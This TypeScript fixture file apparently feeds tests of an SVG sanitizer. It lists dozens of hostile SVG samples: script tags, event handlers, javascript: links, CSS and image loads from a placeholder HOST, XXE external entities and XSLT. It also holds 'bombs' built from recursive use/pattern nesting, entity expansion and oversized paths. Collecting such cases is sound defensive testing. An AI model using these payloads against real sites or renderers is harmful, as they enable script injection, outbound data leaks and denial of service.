/** Drawings that are more than drawings. `HOST` stands for a server that must never be asked. */
const open =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"'
const within = (inside: string, more = '') =>
  `${open}${more}>${inside}<rect width="9" height="9" fill="red"/></svg>`

export const SVG_ATTACKS: readonly string[] = [
  within('<script>window.hit=1;fetch("HOST")</script>'),
  within('<script href="HOST/x.js"/>'),
  within('<script xlink:href="HOST/x.js"></script>'),
  within('<svg:script xmlns:svg="http://www.w3.org/2000/svg">window.hit=1</svg:script>'),
  within('<h:script xmlns:h="http://www.w3.org/1999/xhtml">window.hit=1</h:script>'),
  within('', ' onload="window.hit=1"'),
  within('', ' ONLOAD="window.hit=1"'),
  within('<rect onclick="window.hit=1" onmouseover="window.hit=1"/>'),
  within('<image href="x" onerror="window.hit=1"/>'),
  within('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="HOST"/></foreignObject>'),
  within(
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="HOST"/></body></foreignObject>',
  ),
  within('<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:window.hit=1"/>'),
  within('<embed xmlns="http://www.w3.org/1999/xhtml" src="HOST"/><object data="HOST"/>'),
  within('<a href="javascript:window.hit=1"><rect width="9" height="9"/></a>'),
  within('<a xlink:href="HOST"><rect width="9" height="9"/></a>'),
  within('<image href="HOST/a.png" width="9" height="9"/>'),
  within('<image xlink:href="HOST/a.png" width="9" height="9"/>'),
  within('<image href="//HOST/a.png"/><image href="\\\\HOST\\a.png"/>'),
  within('<image href="data:text/html,&lt;script&gt;window.hit=1&lt;/script&gt;"/>'),
  within(
    `<image href="data:image/svg+xml;base64,${btoa(`${open} onload="window.hit=1"><image href="HOST/b.png"/></svg>`)}"/>`,
  ),
  within('<use href="HOST/a.svg#x"/><use xlink:href="data:image/svg+xml,x#x"/>'),
  within('<feImage href="HOST/a.png"/>'),
  within(
    '<filter id="f"><feImage xlink:href="HOST/a.png"/></filter><rect filter="url(#f)" width="9" height="9"/>',
  ),
  within('<style>@import url("HOST/a.css");</style>'),
  within('<style>@import "HOST/a.css";rect{fill:url(HOST/a.svg#x)}</style>'),
  within('<style>rect{background:u\\72l(HOST/a.png)}</style>'),
  within('<style>rect{fill:ur/**/l(HOST/a.png);mask:url( "HOST/a.svg#m" )}</style>'),
  within('<style>@font-face{font-family:x;src:url(HOST/a.woff)}text{font-family:x}</style><text>a</text>'),
  within('<style>rect{cursor:image-set("HOST/a.png" 1x)}</style>'),
  within('<style><![CDATA[@import url(HOST/a.css);]]></style>'),
  within('<rect style="fill:url(HOST/a.svg#x)" fill="url(HOST/b.svg#x)" width="9" height="9"/>'),
  within('<rect style="behavior:url(HOST/a.htc);-moz-binding:url(HOST/a.xml#b)"/>'),
  within('<set attributeName="href" to="javascript:window.hit=1"/>'),
  within(
    '<a><animate attributeName="href" values="javascript:window.hit=1"/><rect width="9" height="9"/></a>',
  ),
  within('<image><animate attributeName="href" to="HOST/a.png" begin="0s"/></image>'),
  within('<animate attributeName="onload" to="window.hit=1"/>'),
  within('<handler xmlns="http://www.w3.org/2001/xml-events" type="text/javascript">window.hit=1</handler>'),
  within('<video src="HOST"/><audio src="HOST"/><source src="HOST"/>'),
  within('<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="HOST/a.css"/>'),
  within('<meta http-equiv="refresh" content="0;url=HOST"/>'),
  within('<title><![CDATA[</title><script>window.hit=1</script>]]></title>'),
  within('<desc>&lt;/desc&gt;&lt;script&gt;window.hit=1&lt;/script&gt;</desc>'),
  within('<text>]]&gt;&lt;script&gt;window.hit=1&lt;/script&gt;</text>'),
  `<?xml version="1.0"?><?xml-stylesheet href="HOST/a.css" type="text/css"?>${within('')}`,
  `<?xml-stylesheet type="text/xsl" href="HOST/a.xsl"?>${within('')}`,
  `<!DOCTYPE svg SYSTEM "HOST/a.dtd">${within('')}`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "HOST/a">]>${within('<text>&x;</text>')}`,
  `<!DOCTYPE svg [<!ENTITY % x SYSTEM "HOST/a"> %x;]>${within('')}`,
  within('', ' xml:base="HOST/"'),
  within('', ' style="background:url(HOST/a.png)"'),
  within('<discard/><mpath href="HOST/a.svg#p"/><textPath href="HOST/a.svg#p">x</textPath>'),
  within('<linearGradient id="g" href="HOST/a.svg#g"/><pattern id="p" xlink:href="HOST/a.svg#p"/>'),
  within(
    '<tref xlink:href="HOST/a.svg#t"/><altGlyph xlink:href="HOST/a.svg#t"/><color-profile href="HOST"/>',
  ),
]

const uses = (id: number) => `<use href="#b${id}"/>`.repeat(10)
const fills = (id: number) => `<rect width="9" height="9" fill="url(#p${id})"/>`.repeat(10)

/** Small to read, endless to draw. */
export const SVG_BOMBS: readonly string[] = [
  within(
    `<rect id="b0" width="1" height="1"/>${Array.from({ length: 12 }, (_, i) => `<g id="b${i + 1}">${uses(i)}</g>`).join('')}`,
  ),
  within(
    Array.from(
      { length: 12 },
      (_, i) => `<pattern id="p${i + 1}" width="1" height="1">${fills(i)}</pattern>`,
    ).join('') + fills(12),
  ),
  within(
    Array.from(
      { length: 12 },
      (_, i) =>
        `<pattern id="p${i + 1}" width="1" height="1"><g fill="url(#p${i})">${'<rect width="9" height="9"/>'.repeat(10)}</g></pattern>`,
    ).join('') + fills(12),
  ),
  within(`<g>${'<g>'.repeat(5_000)}${'</g>'.repeat(5_000)}</g>`),
  within('<rect/>'.repeat(6_000)),
  `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(100)}"><!ENTITY b "${'&a;'.repeat(100)}">]>${within('<text>&b;&b;</text>')}`,
  within(`<path d="${'M0 0'.repeat(300_000)}"/>`),
]
